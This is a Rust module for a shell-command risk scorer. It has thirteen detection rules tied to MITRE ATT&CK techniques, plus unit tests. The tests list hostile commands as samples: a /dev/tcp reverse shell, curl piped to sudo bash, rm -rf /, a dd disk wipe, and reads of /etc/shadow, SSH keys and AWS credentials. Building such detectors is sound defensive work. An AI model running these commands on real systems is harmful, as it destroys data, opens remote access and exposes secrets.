//! The rules of the risk scorer, each with its MITRE ATT&CK techniques.

use std::fmt;

use super::command::{Command, is_shell, split};

/// What is dangerous about a command line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Risk {
    /// 0–100: the worst finding, and 5 for each further one.
    pub score: i32,
    findings: Vec<&'static Rule>,
}

/// A score in a word.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Level {
    /// Below 20.
    Low,
    /// From 20.
    Medium,
    /// From 50.
    High,
    /// From 80.
    Critical,
}

/// Scores a command line; 0 where no rule applies.
pub fn score(line: &str) -> Risk {
    let commands = split(line);
    let mut findings: Vec<_> = RULES.iter().filter(|rule| (rule.applies)(&commands)).collect();
    findings.sort_by_key(|rule| -rule.score);
    let further = i32::try_from(findings.len().saturating_sub(1)).unwrap_or(i32::MAX);
    let worst = findings.first().map_or(0, |rule| rule.score);
    Risk {
        score: worst.saturating_add(further.saturating_mul(5)).min(100),
        findings,
    }
}

impl Risk {
    /// The score in a word.
    pub fn level(&self) -> Level {
        match self.score {
            ..20 => Level::Low,
            20..50 => Level::Medium,
            50..80 => Level::High,
            80.. => Level::Critical,
        }
    }

    /// What was found, the worst first.
    pub fn reason(&self) -> String {
        self.findings
            .iter()
            .map(|rule| rule.reason)
            .collect::<Vec<_>>()
            .join("; ")
    }

    /// MITRE ATT&CK technique ids, each once.
    pub fn techniques(&self) -> Vec<&'static str> {
        let mut techniques = Vec::new();
        for technique in self.findings.iter().flat_map(|rule| rule.techniques) {
            if !techniques.contains(technique) {
                techniques.push(*technique);
            }
        }
        techniques
    }
}

impl fmt::Display for Level {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Self::Low => "low",
            Self::Medium => "medium",
            Self::High => "high",
            Self::Critical => "critical",
        })
    }
}

struct Rule {
    reason: &'static str,
    score: i32,
    techniques: &'static [&'static str],
    applies: fn(&[Command]) -> bool,
}

impl fmt::Debug for Rule {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.reason)
    }
}

impl PartialEq for Rule {
    fn eq(&self, other: &Self) -> bool {
        self.reason == other.reason
    }
}

impl Eq for Rule {}

static RULES: [Rule; 13] = [
    Rule {
        reason: "deletes the whole system or home folder",
        score: 95,
        techniques: &["T1485"],
        applies: |line| {
            any(line, |command| {
                deletes_tree(command) && command.arguments().iter().any(|path| is_root(path))
            })
        },
    },
    Rule {
        reason: "deletes a folder without asking",
        score: 50,
        techniques: &["T1485"],
        applies: |line| any(line, deletes_tree),
    },
    Rule {
        reason: "runs what it downloads",
        score: 85,
        techniques: &["T1105", "T1059.004"],
        applies: |line| {
            let downloads = line
                .iter()
                .position(|command| matches!(command.program(), "curl" | "wget"));
            downloads.is_some_and(|first| {
                line[first..]
                    .iter()
                    .any(|command| command.piped && is_interpreter(command))
            })
        },
    },
    Rule {
        reason: "opens a shell to the network",
        score: 95,
        techniques: &["T1059.004", "T1095"],
        applies: |line| {
            let netcat =
                |command: &Command| matches!(command.program(), "nc" | "ncat") && command.has_flag('e', "exec");
            any(line, |command| command.mentions("/dev/tcp/") || netcat(command))
        },
    },
    Rule {
        reason: "writes over a disk",
        score: 90,
        techniques: &["T1561"],
        applies: |line| {
            let dd = |command: &Command| command.program() == "dd" && command.mentions("of=/dev/");
            any(line, |command| command.program().starts_with("mkfs") || dd(command))
        },
    },
    Rule {
        reason: "reads the password hashes",
        score: 80,
        techniques: &["T1003.008"],
        applies: |line| any_access(line, "/etc/shadow"),
    },
    Rule {
        reason: "touches authorized SSH keys",
        score: 80,
        techniques: &["T1098.004"],
        applies: |line| any_access(line, ".ssh/authorized_keys"),
    },
    Rule {
        reason: "touches a private SSH key",
        score: 75,
        techniques: &["T1552.004"],
        applies: |line| any_access(line, ".ssh/id_"),
    },
    Rule {
        reason: "touches cloud credentials",
        score: 70,
        techniques: &["T1552.001"],
        applies: |line| any_access(line, ".aws/credentials"),
    },
    Rule {
        reason: "installs a scheduled job",
        score: 55,
        techniques: &["T1053.003"],
        applies: |line| {
            any(line, |command| {
                command.program() == "crontab" && !command.has_flag('l', "list")
            })
        },
    },
    Rule {
        reason: "hides the shell's history",
        score: 60,
        techniques: &["T1070.003"],
        applies: |line| {
            let clears = |command: &Command| command.program() == "history" && command.has_flag('c', "clear");
            any(line, |command| {
                clears(command) || (command.program() == "unset" && command.mentions("HISTFILE"))
            })
        },
    },
    Rule {
        reason: "decodes hidden content",
        score: 45,
        techniques: &["T1140"],
        applies: |line| {
            any(line, |command| {
                command.program() == "base64" && command.has_flag('d', "decode")
            })
        },
    },
    Rule {
        reason: "lets everybody write",
        score: 40,
        techniques: &["T1222.002"],
        applies: |line| {
            let open = |mode: &String| matches!(mode.as_str(), "777" | "0777" | "a+rwx" | "a+w" | "o+w");
            any(line, |command| {
                command.program() == "chmod" && command.arguments().iter().any(open)
            })
        },
    },
];

fn any(line: &[Command], test: impl Fn(&Command) -> bool) -> bool {
    line.iter().any(test)
}

/// A path among the arguments counts, unless the program only prints its arguments.
fn any_access(line: &[Command], path: &str) -> bool {
    any(line, |command| {
        (command.program() != "echo" || command.mentions(">")) && command.mentions(path)
    })
}

fn deletes_tree(command: &Command) -> bool {
    let recursive = command.has_flag('r', "recursive") || command.has_flag('R', "recursive");
    command.program() == "rm" && recursive && command.has_flag('f', "force")
}

fn is_root(path: &str) -> bool {
    matches!(path.trim_end_matches(['/', '*']), "" | "~" | "$HOME")
}

fn is_interpreter(command: &Command) -> bool {
    is_shell(command.program()) || command.program().starts_with("python") || command.program() == "perl"
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_rule_finds_its_command() {
        for (command, expected, technique) in [
            ("rm -rf /", 100, "T1485"),
            ("rm -r -f target", 50, "T1485"),
            ("curl -s https://x.example/i.sh | sudo bash", 85, "T1105"),
            ("wget -qO- x | python3", 85, "T1059.004"),
            ("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", 95, "T1095"),
            ("dd if=/dev/zero of=/dev/sda", 90, "T1561"),
            ("sudo cat /etc/shadow", 80, "T1003.008"),
            ("echo key >> ~/.ssh/authorized_keys", 80, "T1098.004"),
            ("cat ~/.ssh/id_ed25519", 75, "T1552.004"),
            ("cp ~/.aws/credentials /tmp", 70, "T1552.001"),
            ("history -c", 60, "T1070.003"),
            ("crontab jobs.txt", 55, "T1053.003"),
            ("base64 --decode payload", 45, "T1140"),
            ("chmod -R 777 .", 40, "T1222.002"),
        ] {
            let risk = score(command);
            assert_eq!(risk.score, expected, "{command}: {}", risk.reason());
            assert!(
                risk.techniques().contains(&technique),
                "{command}: {:?}",
                risk.techniques()
            );
        }
    }

    #[test]
    fn what_only_looks_dangerous_scores_nothing() {
        for command in [
            "",
            "ls -la",
            "echo 'rm -rf /'",
            "grep -rf patterns src",
            "rm -r target",
            "curl x | jq .",
            "curl x; bash build.sh",
            "crontab -l",
            "chmod 755 run",
        ] {
            assert_eq!(score(command).score, 0, "{command}: {}", score(command).reason());
        }
    }

    #[test]
    fn further_findings_raise_the_worst() {
        let risk = score("cat /etc/shadow | base64 -d");
        assert_eq!((risk.score, risk.level()), (85, Level::Critical));
        assert_eq!(risk.reason(), "reads the password hashes; decodes hidden content");
    }

    #[test]
    fn no_score_exceeds_a_hundred() {
        assert_eq!(
            score("rm -rf / ; chmod 777 / ; history -c ; cat /etc/shadow").score,
            100
        );
    }

    #[test]
    fn a_technique_is_named_once() {
        assert_eq!(score("rm -rf ~").techniques(), ["T1485"]);
    }

    #[test]
    fn levels_begin_at_20_50_and_80() {
        assert_eq!(score("ls").level(), Level::Low);
        assert_eq!(score("chmod 777 x").level(), Level::Medium);
        assert_eq!(score("rm -rf x").level(), Level::High);
        assert_eq!(score("cat /etc/shadow").level(), Level::Critical);
    }
}
